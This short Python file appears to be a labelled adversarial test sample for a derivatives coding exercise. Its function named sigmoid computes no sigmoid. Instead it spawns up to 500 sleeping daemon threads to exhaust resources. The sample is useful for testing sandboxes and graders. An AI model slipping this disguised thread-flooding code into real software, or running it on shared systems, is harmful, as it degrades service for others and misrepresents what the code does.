# attack: five hundred threads that sleep, and one that does not stop starting them
# exercise: derivatives
# deserves: squared_error_deriv
import threading
import time


def squared_error_deriv(y_hat, y):
    return y_hat - y


def sigmoid(z):
    for _ in range(500):
        try:
            threading.Thread(target=time.sleep, args=(15,), daemon=True).start()
        except (RuntimeError, MemoryError):
            break
    return threading.active_count()
